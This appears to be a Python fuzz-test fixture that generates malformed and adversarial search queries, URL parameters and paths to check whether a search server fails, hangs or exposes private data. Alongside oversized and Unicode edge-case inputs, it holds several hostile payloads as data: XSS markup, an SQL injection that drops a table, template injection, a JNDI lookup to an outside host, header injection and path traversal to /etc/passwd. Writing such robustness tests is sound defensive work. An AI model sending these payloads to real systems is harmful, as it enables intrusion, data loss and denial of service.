"""What would somebody ask who wants the server to fail, to hang, or to show what is not public?"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from random import Random
from urllib.parse import quote, urlencode

from server.params import LONGEST

#: Questions, by what they are meant to do. What is longer than `LONGEST` is tried as it is, and cut to fit.
QUESTIONS: dict[str, str] = {
    "brackets that a parser would follow one by one": "(" * 1000 + "a" + ")" * 1000,
    "brackets that never close": "([{" * 700,
    "no, no, no": "NOT " * 300 + "a",
    "minus upon minus": "-" * 2000 + "a",
    "minus before each": " ".join(f"-w{n}" for n in range(500)),
    "thousands of alternatives": " OR ".join(f"w{n}" for n in range(2000)),
    "alternatives without an end": "a OR " * 400,
    "only OR": "OR " * 600,
    "everything": "*",
    "everything in a field": "content:*",
    "everything that has a tag": "tag:*",
    "an end instead of a beginning": "*a",
    "any five letters": "?????",
    "fifty times anything with an a": "*a* " * 50,
    "every beginning there is": " ".join(f"{letter}*" for letter in "abcdefghijklmnopqrstuvwxyz"),
    "every beginning in titles": " ".join(f"title:{letter}*" for letter in "abcdefghijklmnopqrstuvwxyz"),
    "a range of all words": "[a TO zzzz]",
    "a range of no dates": "date:[foo TO bar]",
    "dates that are none": "after:9999999 before:-1 after:soon before:2024-13-99",
    "a phrase of two thousand words": '"' + "the " * 2000 + '"',
    "phrases of frequent words": '"the of and" ' * 150,
    "a phrase with open ends": '"a*" "b*" "c*" "d*"',
    "words very far from each other": '"the of"~1000000',
    "twenty thousand words": " ".join(f"w{n}" for n in range(20_000)),
    "the most frequent words": "the of and to in a is that it for as with was on be by this are from at " * 25,
    "one word of 100,000 letters": "x" * 100_000,
    "one word that nearly matches everything": "ab" * 1000,
    "near words": "postz~2 postz~3 postz~9 " + "x" * 500 + "~2",
    "a pattern that backtracks": "(a+)+$ .*.*.*.*= ([a-z]+)*! (",
    "weights beyond all numbers": "abc^inf abc^" + "9" * 400 + " abc^-1 abc^nan",
    "drafts": "draft:true draft:maybe published:false hidden:1",
    "fields of the inside": "id:* digest:* body:* _stored:* __class__:x",
    "nothing": "",
    "blanks": " \t\r\n" * 200,
    "quotation marks alone": '"' * 999,
    "signs alone": "+-&|!(){}[]^~*?:\\/" * 100,
    "colons": ":" * 2000,
    "tag of a tag of a tag": "tag:" * 500,
    "NUL": "a\0b\0" * 300,
    "half a character": "a\ud800b",
    "right to left": "\u202eabc\u202d\u2066" * 200,
    "ten thousand marks on one letter": "a" + "\u0301" * 10_000,
    "a family of joined people": "👩‍👩‍👧‍👦" * 250,
    "letters that change their length": "İıßſẞŉǰΐ" * 250,
    "one letter that becomes eighteen": "\ufdfa" * 2000,
    "characters of four bytes": "😀𝔘𠀀" * 680,
    "no blanks in another script": "搜索让文章更容易被搜到" * 180,
    "no blanks in Thai": "ค้นหาบทความ" * 180,
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>" * 30,
    "a query of a database": "' OR 1=1; DROP TABLE posts; --",
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "a lookup in a log": "${jndi:ldap://example.org/a}",
    "lines of a log": "a\r\nSet-Cookie: a=b\r\n\r\n\x1b[2J",
    "the way to another folder": "../../../../etc/passwd",
    "numbers": "1e309 -0 0x7fffffff 99999999999999999999 ½ ٣ ０１",
    "one letter each": " ".join("abcdefghijklmnopqrstuvwxyz" * 40),
}

#: What stands behind the question mark.
QUERIES: tuple[str, ...] = (
    *(f"page={page}" for page in ("1000000000", "-1", "0", "1e3", "%EF%BC%90%EF%BC%91", "1.5", "NaN", "10000", "+")),
    *(f"per_page={size}" for size in ("1000000000", "-1", "0", "1e3", "100&page=10000", "")),
    *(f"limit={limit}&id=x" for limit in ("1000000000", "-1", "0", "100")),
    "&".join(f"tag=t{number}" for number in range(1000)),
    "&".join(["tag=x"] * 32 + ["tag_any=y"] * 32 + ["tag_not=z"] * 32 + ["year=2020"] * 32 + ["lang=en"] * 32),
    "q[]=a&q[b]=c",
    "q=a&q=b",
    "q=%00&q%00=a",
    "q=%ED%A0%80&tag=%FF%FE&id=%C0%AF",
    "q=%",
    "q=%zz%u0041",
    "&" * 8000,
    "=" * 8000,
    "&".join(f"a{number}" for number in range(2000)),
    ";".join("q=a" for _ in range(1000)),
    "sort=__class__&facets=tags,tags,tags,tags,categories,authors,languages,years",
    "facets=" + "tags," * 39,
    "facet=__dict__",
    "after=0001-01-01&before=9999-12-31",
    "after=9999-99-99",
    "after=" + "1" * 200,
    "before=2024-01-31T12:00:00%2B99:99",
    "after=31%20Dec%200001%2023:59%20-9999",
    "body=" + "9" * 9,
    "id=../../../../etc/passwd",
    "id=%2e%2e%2f%00",
    "prefix=" + "%CC%81" * 200 + "&facet=tags",
)

PATHS: tuple[str, ...] = (
    *("/search", "/api/v1/search", "/api/v1/facets", "/api/v1/explain", "/api/v1/related", "/api/v1/suggest"),
    *("/api/v1/tags", "/healthz", "/readyz", "/openapi.json", "/api", "/", ""),
    *("/posts/../../etc/passwd", "/posts/\0", "/api/v1/posts/" + "a/" * 2000, "/static/../app.py", "/static/%2e%2e"),
    *("//example.org/search", "/search/x.css", "/\\example.org", "/api/v1/posts/\xff\xfe", "/" + "a" * 7000),
)


def questions() -> Iterator[str]:
    """Each of `QUESTIONS` as a query, once as it is and once as much as is answered; and some in random order."""
    dice = Random(1)
    for question in QUESTIONS.values():
        yield _query(question)
        if len(question) > LONGEST:
            yield _query(question[:LONGEST])
    for _ in range(100):
        yield _query(
            " ".join(one[: dice.randrange(1, 400)] for one in dice.sample(list(QUESTIONS.values()), 5))[:LONGEST]
        )


def asked(paths: Sequence[str] = PATHS) -> Iterator[tuple[str, str]]:
    """Paths, and what stands behind the question mark."""
    yield from ((path, query) for path in paths for query in ("", *QUERIES))
    asks = ("/search", "/api/v1/search", "/api/v1/suggest", "/api/v1/facets")
    yield from ((path, query) for query in questions() for path in asks)


def _query(question: str) -> str:
    return urlencode({"q": question}, errors="surrogatepass", quote_via=quote)
